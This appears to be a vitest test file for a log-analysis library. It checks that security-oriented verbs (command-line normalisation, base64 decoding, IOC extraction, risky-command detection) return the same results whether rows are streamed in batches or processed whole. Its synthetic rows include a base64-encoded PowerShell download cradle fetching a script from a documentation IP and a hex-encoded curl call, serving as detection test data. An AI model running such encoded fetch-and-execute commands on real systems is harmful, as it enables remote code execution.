import { createSession, Table, type BatchSource, type Verb } from '@pivotkit/core';
import { standard } from '@pivotkit/plugin-standard';
import { afterAll, describe, expect, test } from 'vitest';

/** Verbs that can stream give over rows in batches of any size what they give over the whole table. */
const session = await createSession({ plugins: standard });
afterAll(() => session.close());

const verbs: readonly Verb[] = standard.flatMap((plugin): readonly Verb[] => plugin.verbs);
const streamable = verbs.filter((verb) => verb.streamable).map(({ name }) => name);

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

/** Texts that come again in other batches, rows in which nothing is found, and nulls. */
const commandOf = (i: number): string | null => {
  if (i % 5 === 0) return null;
  if (i % 3 === 0) return 'notepad.exe C:\\notes.txt';
  return `powershell -enc ${encoded(`iwr http://203.0.113.${i % 4}/a.ps1`)} 198.51.100.${i % 6}`;
};

const rows = Array.from({ length: 41 }, (_, i) => ({
  n: i,
  Computer: `WS${i % 3}`,
  Account: `user${i % 4}`,
  NewProcessName: `C:\\w\\tool${i % 9}.exe`,
  SubjectLogonId: i % 2 === 0 ? '0x3e7' : `0x${i}`,
  CommandLine: commandOf(i),
  note: i % 7 === 0 ? `seen at 192.0.2.${i}, then ${Buffer.from(`curl http://a.example/${i % 14}`).toString('hex')}` : 'none', // prettier-ignore
  line: `<13>1 2026-01-01T00:00:${String(i).padStart(2, '0')}Z web sshd ${i} - - Failed password for root`,
  latitude: i,
  longitude: i % 8 === 0 ? null : -i,
}));

type EventRow = (typeof rows)[number];

const samples: Readonly<Record<string, object>> = {
  'cluster.features': {},
  'cluster.textFeatures': { column: 'CommandLine' },
  'cmdline.normalize': {},
  'decode.base64': {},
  'geolocation.distance': { to: { latitude: 59.91, longitude: 10.75 } },
  'ioc.extract': {},
  'syslog.lines': { notAfter: new Date(Date.UTC(2026, 1, 1)) },
  'syslog.risky': { commandCol: 'CommandLine' },
};

const inBatchesOf = (size: number): BatchSource<EventRow> => ({
  text: `batches of ${size}`,
  async *batches() {
    for (let start = 0; start < rows.length; start += size) yield Table.fromRows(rows.slice(start, start + size));
  },
});

test('each has a sample', () => {
  expect(streamable.toSorted()).toEqual(Object.keys(samples).toSorted());
});

describe.each(Object.entries(samples))('%s', (name, options) => {
  // Names come from the list above, options fit them.
  const over = (source: BatchSource<EventRow> | Table<EventRow>) =>
    session.from(source).filter(({ n }) => n % 11 !== 10).verb(name as never, options as never); // prettier-ignore

  test.each([1, 2, 7, 40, 41, 1_000])('in batches of %d', async (size) => {
    const whole = await over(Table.fromRows(rows)).run();
    const streamed = await over(inBatchesOf(size)).run();
    expect(whole.size).toBeGreaterThan(10);
    expect(streamed.toRows()).toEqual(whole.toRows());
    expect(streamed.table.columnNames).toEqual(whole.table.columnNames);
  });

  test('does not wait for the last row', async () => {
    let batches = 0;
    for await (const _ of over(inBatchesOf(7)).batches()) batches += 1;
    expect(batches).toBe(6);
  });
});
